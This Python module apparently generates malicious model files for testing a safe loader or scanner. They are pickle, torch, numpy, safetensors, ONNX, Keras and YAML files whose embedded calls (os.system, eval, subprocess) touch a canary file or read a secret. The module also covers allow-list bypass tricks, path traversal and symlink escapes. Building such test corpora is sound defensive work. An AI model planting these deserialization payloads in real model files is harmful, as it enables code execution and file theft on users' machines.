"""Model files that would do harm when they are opened carelessly, made here; none of them is ever run by this module.

Each would touch a file (TOUCHED) or give away what another holds (SECRET): both lie in a folder that the maker names.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import lzma
import pickle
import stat
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import onnx
from foreign import model_of

TOUCHED, SECRET = "touched", "secret"
WORD = "canary-8c1f-secret-word"
"""What the secret file holds: no answer and no file that is made may hold it."""


class Reduced:
    """Is pickled as a call of a function by its dotted name, which is not looked up here."""

    def __init__(self, name: str, *arguments: Any, state: Any = None) -> None:
        self.name, self.arguments, self.state = name, arguments, state


class _Pickler(pickle._Pickler):
    """A pickler in Python that writes the names of functions without having them."""

    def save(self, obj: Any, save_persistent_id: bool = True) -> Any:
        if not isinstance(obj, Reduced):
            return super().save(obj, save_persistent_id)
        module, _, name = obj.name.rpartition(".")
        if self.proto >= 4:
            self.save(module)
            self.save(name)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + f"{module}\n{name}\n".encode())
        self.save(obj.arguments)
        self.write(pickle.REDUCE)
        if obj.state is not None:
            self.save(obj.state)
            self.write(pickle.BUILD)
        return None


def pickled(value: Any, protocol: int = 2) -> bytes:
    """Write a pickle that holds calls."""
    buffer = io.BytesIO()
    _Pickler(buffer, protocol).dump(value)
    return buffer.getvalue()


def torch_zip(content: bytes, **more: bytes) -> bytes:
    """Put a pickle into the archive that torch writes."""
    files = {"archive/data.pkl": content, "archive/version": b"3\n", "archive/byteorder": b"little"}
    return zipped({**files, **{f"archive/{name.replace('__', '/')}": held for name, held in more.items()}})


def zipped(files: dict[str, bytes]) -> bytes:
    """Write a zip of files, stored as they are."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def calls(folder: Path) -> dict[str, Any]:
    """Name the calls that would touch the canary or read it, from the plain to those that slip past lists of names."""
    touched, secret = str(folder / TOUCHED), str(folder / SECRET)
    command, source = f"touch {touched}", f"open({touched!r}, 'w').close()"
    inner = pickled(Reduced("os.system", command))
    return {
        "os-system": Reduced("os.system", command),
        "posix-system": Reduced("posix.system", command),
        "popen": Reduced("subprocess.Popen", ["touch", touched]),
        "check-output": Reduced("subprocess.check_output", ["touch", touched]),
        "eval": Reduced("builtins.eval", source),
        "exec": Reduced("builtins.exec", source),
        "old-eval": Reduced("__builtin__.eval", source),
        "open": Reduced("builtins.open", touched, "w"),
        "io-open": Reduced("io.open", secret),
        "read-secret": Reduced("pathlib.Path.read_text", Reduced("pathlib.Path", secret)),
        "write-text": Reduced("pathlib.Path.write_text", Reduced("pathlib.Path", touched), "x"),
        "copy": Reduced("shutil.copyfile", secret, touched),
        "partial": Reduced("functools.partial", Reduced("os.system", command)),
        "getattr": Reduced("builtins.getattr", Reduced("importlib.import_module", "os"), "system"),
        "runpy": Reduced("runpy._run_code", source, {}),
        "timeit": Reduced("timeit.timeit", source),
        "profile": Reduced("cProfile.run", source),
        "bdb": Reduced("bdb.Bdb.run", Reduced("bdb.Bdb"), source),
        "doctest": Reduced("doctest.debug_script", source),
        "pipepager": Reduced("pydoc.pipepager", "x", command),
        "collect-env": Reduced("torch.utils.collect_env.run", command),
        "torch-hub": Reduced("torch.hub.load", str(folder), "x", "local"),
        "torch-load": Reduced("torch.serialization.load", secret),
        "torch-library": Reduced("torch.ops.load_library", touched),
        "numpy-runstring": Reduced("numpy.testing._private.utils.runstring", source, {}),
        "numpy-load": Reduced("numpy.load", secret, None, True),
        "reconstruct": Reduced("numpy._core.multiarray._reconstruct", Reduced("os.system", command), (0,), b"b"),
        "rebuild": Reduced("torch._utils._rebuild_tensor_v2", Reduced("os.system", command), 0, (1,), (1,), False, {}),
        "rebuild-parameter": Reduced("torch._utils._rebuild_parameter_with_state", 1, False, {}, {"data": inner}),
        "rebuild-wrapper": Reduced("torch._utils._rebuild_wrapper_subclass", Reduced("os.system", command), 1, 1, 1),
        "device-of": Reduced("torch._utils._rebuild_device_tensor_from_numpy", inner, "float32", "cpu", False),
        "nested": Reduced("pickle.loads", inner),
        "nested-in-list": {"weight": [[[Reduced("_pickle.loads", inner)]]]},
        "in-state": {"state_dict": {"a": Reduced("os.system", command)}},
        "setstate": Reduced("collections.OrderedDict", state={"__setstate__": Reduced("os.system", command)}),
        "module": Reduced("torch.nn.modules.linear.Linear", state={"forward": Reduced("os.system", command)}),
        "list-for-a-dictionary": {"state_dict": ["no", "tensors"]},
        "names-that-are-none": {("a", 1): 2, None: b"x"},
    }


def opcodes(folder: Path) -> dict[str, bytes]:
    """Write pickles by hand, in forms that no pickler writes."""
    command = f"touch {folder / TOUCHED}".encode()
    short = b"\x8c" + bytes([len(command)]) + command
    word = lambda text: b"\x8c" + bytes([len(text)]) + text  # noqa: E731
    stacked = pickled({"a": 1}, 2)
    return {
        "protocol-0": b"cposix\nsystem\n(S'" + command + b"'\ntR.",
        "instance": b"(S'" + command + b"'\niposix\nsystem\n.",
        "object": b"(cposix\nsystem\nS'" + command + b"'\no.",
        "stack-global": b"\x80\x04" + word(b"posix") + word(b"system") + b"\x93" + short + b"\x85R.",
        "memo": b"\x80\x04" + word(b"posix") + b"\x94" + word(b"system") + b"\x94h\x00h\x01\x93" + short + b"\x85R.",
        "dotted": b"\x80\x04" + word(b"torch") + word(b"serialization.os.system") + b"\x93" + short + b"\x85R.",
        "allowed-then-dotted": b"\x80\x04" + word(b"torch._utils") + word(b"os.system") + b"\x93" + short + b"\x85R.",
        "new-object": b"\x80\x02csubprocess\nPopen\n(]S'" + command + b"'\nat}\x92.",
        "build-builtins": b"\x80\x02cbuiltins\nglobals\n)R}S'x'\ncposix\nsystem\nsb.",
        "extension": b"\x80\x02\x82\x01(S'" + command + b"'\ntR.",
        "persistent": b"\x80\x02(S'storage'\ncposix\nsystem\nS'0'\nS'cpu'\nK\x01tQ.",
        "two-pickles": stacked + b"cposix\nsystem\n(S'" + command + b"'\ntR.",
        "huge-string": b"\x80\x04\x8e" + (2**62).to_bytes(8, "little") + b"x.",
        "huge-memo": b"\x80\x02K\x01r\xff\xff\xff\x7f.",
        "deep-tuples": b"\x80\x02" + b")" + b"\x85" * 100_000 + b".",
        "marks-without-end": b"\x80\x02" + b"(" * 200_000 + b".",
    }


def _npy(descr: str, content: bytes) -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
    head += b" " * (-(10 + len(head) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + content


def _safetensors(header: bytes, body: bytes = b"") -> bytes:
    return len(header).to_bytes(8, "little") + header + body


def _linked_zip(target: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("archive/data.pkl")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, target)
    return buffer.getvalue()


def _tar(evil: bytes, secret: str) -> bytes:
    """The form that torch wrote before 2018, with links beside its pickles."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("pickle", "storages", "tensors", "sys_info"):
            entry = tarfile.TarInfo(name)
            entry.size = len(evil)
            archive.addfile(entry, io.BytesIO(evil))
        for kind, name in ((tarfile.SYMTYPE, "../out"), (tarfile.LNKTYPE, "hard")):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, secret
            archive.addfile(entry)
    return buffer.getvalue()


def _outside(location: str) -> bytes:
    """A model whose weights lie in another file."""
    content = model_of([("Add", ("x", "w"), "y", {})], {"x": ("n", 4)}, ["y"], {"w": [0.0] * 4})
    model = onnx.load_from_string(content)
    (tensor,) = model.graph.initializer
    tensor.ClearField("raw_data")
    tensor.data_location = onnx.TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value=location)
    return model.SerializeToString()


def containers(folder: Path) -> dict[str, bytes]:
    """Files of other kinds that hold a call, a way out of their folder, or a lie."""
    touched, secret = str(folder / TOUCHED), str(folder / SECRET)
    evil = pickled(Reduced("os.system", f"touch {touched}"))
    source = f"open({touched!r}, 'w').close()"
    layer = {"class_name": "Lambda", "config": {"function": {"config": {"code": base64.b64encode(evil).decode()}}}}
    script = {"archive/code/__torch__.py": source.encode(), "archive/constants.pkl": evil, "archive/data.pkl": evil}
    plain = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    vast = json.dumps({"w": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}}).encode()
    out = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [-8, 8]}}).encode()
    kept = json.dumps({"__metadata__": {"pickle": base64.b64encode(evil).decode()}}).encode()
    old = b"".join(pickle.dumps(part, 2) for part in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    yaml = f"!!python/object/apply:os.system ['touch {touched}']\n".encode()
    return {
        "legacy.pt": old + evil,
        "legacy-tar.pt": _tar(evil, secret),
        "script.pt": zipped(script),
        "lite.ptl": zipped({"bytecode.pkl": evil, **script}),
        "program.pt2": zipped({"archive/models/model.json": b"{}", "archive/data/sample_inputs/model.pt": evil}),
        "program-old.pt2": zipped({"serialized_exported_program.json": b"{}", "serialized_state_dict.pt": evil}),
        "metadata.ckpt": torch_zip(evil, data__0=b"\x00" * 4),
        "distributed.metadata": evil,
        "slip.pt": torch_zip(pickled({"a": 1}), __________touched=b"x"),
        "slip.npz": zipped({"../../touched.npy": _npy("'<f4'", b"\x00" * 4), "x.npy": _npy("'|O'", evil)}),
        "link.pt": _linked_zip(secret),
        "object.npy": _npy("'|O'", evil),
        "object.npz": zipped({"x.npy": _npy("'|O'", evil), "y.npy": _npy("'|O'", evil)}),
        "hidden-object.npy": _npy("[('a', '|O'), ('b', '<f4')]", evil),
        "evaluated.npy": _npy(f"__import__('os').system('touch {touched}')", b""),
        "packed.joblib": zlib.compress(evil),
        "plain.joblib": evil,
        "packed.pkl.gz": gzip.compress(evil, mtime=0),
        "packed.pkl.xz": lzma.compress(evil),
        "lambda.keras": zipped({"config.json": json.dumps({"config": {"layers": [layer]}}).encode(), "m.h5": evil}),
        "lambda.json": json.dumps(layer).encode(),
        "lambda.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 88 + json.dumps(layer).encode(),
        "config.yaml": yaml,
        "script.onnx": source.encode(),
        "outside.onnx": _outside(secret),
        "outside-relative.onnx": _outside(f"../../../../../..{secret}"),
        "outside-url.onnx": _outside(f"file://{secret}"),
        "pickle.safetensors": evil,
        "metadata.safetensors": _safetensors(kept),
        "body.safetensors": _safetensors(plain, evil[:4]),
        "vast.safetensors": _safetensors(vast),
        "outside.safetensors": _safetensors(out, b"\x00" * 8),
        "header.safetensors": (2**63).to_bytes(8, "little") + b"{}",
        "polyglot.safetensors": _safetensors(plain, b"\x00" * 4) + zipped(script),
        "polyglot.pt": evil + zipped(script),
    }


PACKED: tuple[tuple[str, Callable[[bytes], bytes]], ...] = (
    (".pkl", bytes),
    (".pt", torch_zip),
    (".pth", lambda content: torch_zip(content, data__0=b"\x00" * 64)),
    (".ckpt", bytes),
    (".joblib", gzip.compress),
)


def malicious_files(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Give all of them by their names: each call in two containers, those by hand, and the other kinds."""
    for number, (name, value) in enumerate(calls(folder).items()):
        # Torch's own archive gets furthest; the others go from one container to the next.
        yield f"{name}.torch.pt", torch_zip(pickled(value, 2))
        ending, pack = PACKED[number % len(PACKED)]
        yield f"{name}{ending}", pack(pickled(value, 2 if number % 2 else 4))
    for number, (name, content) in enumerate(opcodes(folder).items()):
        ending, pack = PACKED[number % 2]
        yield f"{name}{ending}", pack(content)
    yield from containers(folder).items()
    buffer = io.BytesIO()
    np.savez(buffer, x=np.array([{"a": 1}], object), y=np.zeros(1))
    yield "savez.npz", buffer.getvalue()
